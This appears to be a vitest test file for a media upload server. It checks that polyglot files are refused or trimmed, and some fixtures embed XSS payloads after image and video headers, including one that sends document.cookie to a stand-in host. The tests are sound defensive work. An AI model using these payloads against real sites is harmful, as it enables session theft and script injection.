import { appendFileSync, existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { eq, sql } from 'drizzle-orm';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { entregas } from '../../db/schema';
import { testMp4 } from '../../test/fixtures/videos';
import { readAll, tusOn, uploadMetadata } from '../../test/tus';
import { createTestContext, json, type TestClient, type TestContext } from '../../test/context';

/**
 * Issue 26's media holes (decision 059), each on the real tus server, real files, real encoders (sharp,
 * the shipped ffmpeg clip) and PGlite (PostgreSQL with scripts/with-postgres.mjs).
 */
const MAX_GB = 0.01; // about 10.7 MB per collaboration
const EXPIRY_HOURS = 1;

let ctx: TestContext;
beforeAll(async () => {
  ctx = await createTestContext({ env: { COLLABORATION_MAX_GB: String(MAX_GB), UPLOAD_EXPIRY_HOURS: String(EXPIRY_HOURS) } });
});
afterAll(async () => {
  await ctx?.close();
});

interface ErrorBody {
  error: { code: string; message: string };
}
type Creator = TestClient & { userId: string };

const { request: tus, created, patch, partialDir, partialFiles: partialFilesOf, storedFilesOf, creatorWithCollaboration } = tusOn(() => ctx);
const rowsOf = (colabId: string) => ctx.db.select().from(entregas).where(eq(entregas.colaboracionId, colabId));



async function expectOurError(res: Response, status: number, code: string): Promise<ErrorBody> {
  expect(res.status).toBe(status);
  expect(res.headers.get('content-type')).toMatch(/application\/json/);
  const body = JSON.parse(await res.text()) as ErrorBody;
  expect(body.error.code).toBe(code);
  return body;
}

const INVALID_VIDEO = 'Por favor selecciona un archivo de video válido (MP4 o MOV)';
const INVALID_IMAGE = 'Por favor selecciona un archivo de imagen válido';

describe('videos whose headers lie', () => {
  it('a duration past 2^31 ms is refused in Spanish and leaves nothing: no row, no copy, no partial', async () => {
    const { creator, colabId } = await creatorWithCollaboration();
    // A real clip whose movie, track and media headers all declare 3,000,000,000 ms (34 days).
    const video = testMp4({ durationMs: 3_000_000_000, paddingBytes: 64 * 1024 });
    const { location, id } = await created(creator, colabId, video.length);
    const body = await expectOurError(await patch(creator, location, 0, video), 400, 'INVALID_VIDEO');
    expect(body.error.message).toBe(INVALID_VIDEO);
    expect(await rowsOf(colabId)).toEqual([]);
    expect(storedFilesOf(colabId)).toEqual([]);
    expect(partialFilesOf(id)).toEqual([]);
    // Nothing is left for the collaboration's cap either: the same bytes may be sent again, as a real video.
    const real = testMp4({ paddingBytes: 64 * 1024 });
    const again = await created(creator, colabId, real.length);
    expect((await patch(creator, again.location, 0, real)).status).toBe(204);
    expect(await rowsOf(colabId)).toHaveLength(1);
  });

  it('a video the database refuses to record (a value out of its range) is removed, copy and partial, with a 400', async () => {
    const { creator, colabId } = await creatorWithCollaboration();
    // The database refusing the row's values, as int4 refused a 34-day duration before the bounds: a
    // trigger for this collaboration only raises numeric_value_out_of_range (22003).
    const name = `refuse_entregas_${colabId.replaceAll('-', '')}`;
    await ctx.db.execute(
      sql.raw(`CREATE FUNCTION ${name}() RETURNS trigger LANGUAGE plpgsql AS $$
        BEGIN
          IF NEW.colaboracion_id = '${colabId}' THEN RAISE EXCEPTION 'integer out of range' USING ERRCODE = '22003'; END IF;
          RETURN NEW;
        END $$`),
    );
    await ctx.db.execute(sql.raw(`CREATE TRIGGER ${name} BEFORE INSERT ON entregas FOR EACH ROW EXECUTE FUNCTION ${name}()`));
    try {
      const video = testMp4({ paddingBytes: 64 * 1024 });
      const { location, id } = await created(creator, colabId, video.length);
      const body = await expectOurError(await patch(creator, location, 0, video), 400, 'INVALID_VIDEO');
      expect(body.error.message).toBe(INVALID_VIDEO);
      expect(await rowsOf(colabId)).toEqual([]);
      expect(storedFilesOf(colabId)).toEqual([]);
      expect(partialFilesOf(id)).toEqual([]);
    } finally {
      await ctx.db.execute(sql.raw(`DROP TRIGGER ${name} ON entregas`));
      await ctx.db.execute(sql.raw(`DROP FUNCTION ${name}()`));
    }
  });

  it('an ftyp box followed by a page is no video: refused, nothing kept', async () => {
    const { creator, colabId } = await creatorWithCollaboration();
    const ftyp = Buffer.from([0, 0, 0, 0x18, ...Buffer.from('ftypisom'), 0, 0, 2, 0, ...Buffer.from('isommp41')]);
    const page = Buffer.from(`<!doctype html><html><body><img src=x onerror="fetch('/api/me')">${'x'.repeat(8192)}</body></html>`);
    const bytes = Buffer.concat([ftyp, page]);
    const { location, id } = await created(creator, colabId, bytes.length);
    const body = await expectOurError(await patch(creator, location, 0, bytes), 400, 'INVALID_VIDEO');
    expect(body.error.message).toBe(INVALID_VIDEO);
    expect(await rowsOf(colabId)).toEqual([]);
    expect(storedFilesOf(colabId)).toEqual([]);
    expect(partialFilesOf(id)).toEqual([]);
  });

  it('records duration and frame size as ffprobe reads them (the one reader), turned as the phone shows it', async () => {
    const { creator, colabId } = await creatorWithCollaboration();
    const video = testMp4({ width: 1920, height: 1080, rotation: 90, durationMs: 42_000, container: 'mov', paddingBytes: 8 * 1024 });
    const { location } = await created(creator, colabId, video.length);
    expect((await patch(creator, location, 0, video)).status).toBe(204);
    const [row] = await rowsOf(colabId);
    expect(row).toMatchObject({ mimeType: 'video/quicktime', width: 1080, height: 1920, durationMs: 42_000, sizeBytes: video.length });
  });
});

describe('deferred lengths and the byte cap', () => {
  it('an upload that defers its length is refused in Spanish, and nothing is created', async () => {
    const { creator, colabId } = await creatorWithCollaboration();
    const deferred = await tus(creator, 'POST', '/api/uploads/videos', { 'upload-defer-length': '1', 'upload-metadata': uploadMetadata(colabId) });
    const body = await expectOurError(deferred, 400, 'UPLOAD_INVALID');
    expect(body.error.message).toBe('La carga debe declarar el tamaño del video al empezar. Recarga la página e inténtalo de nuevo.');
    // An empty or non-numeric length is no length either.
    for (const length of ['', ' 5', '1e3', '-1']) {
      const res = await tus(creator, 'POST', '/api/uploads/videos', { 'upload-length': length, 'upload-defer-length': '1', 'upload-metadata': uploadMetadata(colabId) });
      expect(res.status, length).toBe(400);
    }
    // Nothing was created for her collaboration.
    const infos = existsSync(partialDir()) ? readdirSync(partialDir()).filter((f) => f.endsWith('.json')) : [];
    expect(infos.filter((f) => readFileSync(path.join(partialDir(), f), 'utf8').includes(colabId))).toEqual([]);
  });

  it('a finished upload not yet recorded keeps counting against the cap after the expiry', async () => {
    const { creator, colabId } = await creatorWithCollaboration();
    const cap = Math.round(MAX_GB * 1024 ** 3);
    const size = cap - 4096;
    const { location, id } = await created(creator, colabId, size);
    expect((await patch(creator, location, 0, Buffer.alloc(1024, 1))).status).toBe(204);
    // All its bytes arrived (the process died before recording), two expiries ago: never swept, so counted.
    appendFileSync(path.join(partialDir(), id), Buffer.alloc(size - 1024, 1));
    const infoFile = path.join(partialDir(), `${id}.json`);
    const info = JSON.parse(readFileSync(infoFile, 'utf8')) as { creation_date: string };
    info.creation_date = new Date(Date.now() - 2 * EXPIRY_HOURS * 3_600_000).toISOString();
    writeFileSync(infoFile, JSON.stringify(info));
    const res = await tus(creator, 'POST', '/api/uploads/videos', { 'upload-length': String(8192), 'upload-metadata': uploadMetadata(colabId) });
    await expectOurError(res, 413, 'COLLABORATION_STORAGE_FULL');
    // Her HEAD then finds it is no video: refused and removed, which frees the room.
    expect((await tus(creator, 'HEAD', location)).status).toBe(400);
    expect(partialFilesOf(id)).toEqual([]);
    await created(creator, colabId, 8192);
  });
});

describe('a HEAD after the upload was recorded', () => {
  it('answers complete with the entrega, so a client that lost the last answer does not send it again', async () => {
    const { creator, colabId } = await creatorWithCollaboration();
    const video = testMp4({ paddingBytes: 32 * 1024 });
    const { location, id } = await created(creator, colabId, video.length);
    const last = await patch(creator, location, 0, video);
    expect(last.status).toBe(204);
    const entregaId = last.headers.get('x-entrega-id');
    expect(entregaId).toBeTruthy();
    expect(partialFilesOf(id)).toEqual([]);

    const head = await tus(creator, 'HEAD', location);
    expect(head.status).toBe(200);
    expect(head.headers.get('upload-offset')).toBe(String(video.length));
    expect(head.headers.get('upload-length')).toBe(String(video.length));
    expect(head.headers.get('x-entrega-id')).toBe(entregaId);
    expect(await rowsOf(colabId)).toHaveLength(1);
    // Nobody else learns of it.
    const stranger = await ctx.loginAs('colaboradora');
    expect((await tus(stranger, 'HEAD', location)).status).toBe(404);
    // Once she deletes the video, the upload is gone for good.
    expect((await creator.request('DELETE', `/api/entregas/item/${entregaId}`)).status).toBe(204);
    expect((await tus(creator, 'HEAD', location)).status).toBe(404);
  });
});

describe('photos: only what the README lists, judged on what decodes', () => {
  const upload = (creator: Creator, colabId: string, bytes: Buffer, name: string, type: string) => {
    const form = new FormData();
    form.set('file', new Blob([new Uint8Array(bytes)], { type }), name);
    return creator.request('POST', `/api/entregas/${colabId}/imagenes`, { form });
  };
  const picture = () => sharp({ create: { width: 1080, height: 1350, channels: 3, background: { r: 200, g: 90, b: 60 } } });

  it('a page after a JPEG end marker never reaches storage: the photo is kept, cut at its end', async () => {
    const { creator, colabId } = await creatorWithCollaboration();
    const page = Buffer.from('<!doctype html><meta charset=utf-8><img src=x onerror="location=\'https://malo.example/\'+document.cookie">');
    // Baseline, progressive (several scans, tables between them) and mozjpeg's progressive scans.
    for (const options of [{}, { progressive: true }, { mozjpeg: true }] as const) {
      const jpeg = await picture().jpeg(options).toBuffer();
      const res = await upload(creator, colabId, Buffer.concat([jpeg, page]), 'foto.jpg', 'image/jpeg');
      expect(res.status).toBe(201);
      const { entrega } = await json<{ entrega: { id: string } }>(res);
      const [row] = await ctx.db.select().from(entregas).where(eq(entregas.id, entrega.id));
      const stored = await readAll((await ctx.storage.get('entregas', row!.fileKey!))!.body);
      expect(stored.equals(jpeg)).toBe(true);
      expect(stored.includes(Buffer.from('onerror'))).toBe(false);
      expect(row!.sizeBytes).toBe(jpeg.length);
    }
  });

  it('a JPEG that cannot be walked to its end marker is refused, so nothing after it can hide', async () => {
    const { creator, colabId } = await creatorWithCollaboration();
    const jpeg = await picture().jpeg().toBuffer();
    const page = Buffer.from('<!doctype html><img src=x onerror=alert(1)>');
    // A stray byte between two segments; and a picture with no end marker at all.
    const stray = Buffer.concat([jpeg.subarray(0, 2), Buffer.from('X'), jpeg.subarray(2), page]);
    const endless = Buffer.concat([jpeg.subarray(0, jpeg.length - 2), page]);
    for (const bytes of [stray, endless]) {
      await expectOurError(await upload(creator, colabId, bytes, 'foto.jpg', 'image/jpeg'), 400, 'INVALID_IMAGE');
    }
    expect(storedFilesOf(colabId)).toEqual([]);
  });

  it('a phone trailer after the picture (a motion photo clip) goes too; the picture stays as it came', async () => {
    const { creator, colabId } = await creatorWithCollaboration();
    // An EXIF thumbnail carries its own end marker inside APP1: the cut is at the picture's end, not there.
    const jpeg = await picture().jpeg({ quality: 90 }).withExif({ IFD0: { Make: 'Samsung', Model: 'SM-S918B' } }).toBuffer();
    const res = await upload(creator, colabId, Buffer.concat([jpeg, testMp4({ paddingBytes: 1024 })]), 'foto.jpg', 'image/jpeg');
    expect(res.status).toBe(201);
    const { entrega } = await json<{ entrega: { id: string } }>(res);
    const [row] = await ctx.db.select().from(entregas).where(eq(entregas.id, entrega.id));
    expect((await readAll((await ctx.storage.get('entregas', row!.fileKey!))!.body)).equals(jpeg)).toBe(true);
  });

  it('GIF and AVIF are refused in Spanish, whatever their name', async () => {
    const { creator, colabId } = await creatorWithCollaboration();
    const gif = await picture().gif().toBuffer();
    const avif = await sharp({ create: { width: 64, height: 80, channels: 3, background: '#446' } }).avif().toBuffer();
    for (const [bytes, name, type] of [
      [gif, 'foto.gif', 'image/gif'],
      [gif, 'foto.jpg', 'image/jpeg'],
      [avif, 'foto.avif', 'image/avif'],
    ] as const) {
      const body = await expectOurError(await upload(creator, colabId, bytes, name, type), 400, 'INVALID_IMAGE');
      expect(body.error.message).toBe(INVALID_IMAGE);
    }
    expect(await rowsOf(colabId)).toEqual([]);
    expect(storedFilesOf(colabId)).toEqual([]);
  });

  it('a WebP with anything after its container is refused', async () => {
    const { creator, colabId } = await creatorWithCollaboration();
    const webp = await picture().webp().toBuffer();
    expect((await upload(creator, colabId, webp, 'foto.webp', 'image/webp')).status).toBe(201);
    const hostile = Buffer.concat([webp, Buffer.from('<!doctype html><a href=x>hola</a>')]);
    await expectOurError(await upload(creator, colabId, hostile, 'foto.webp', 'image/webp'), 400, 'INVALID_IMAGE');
  });
});
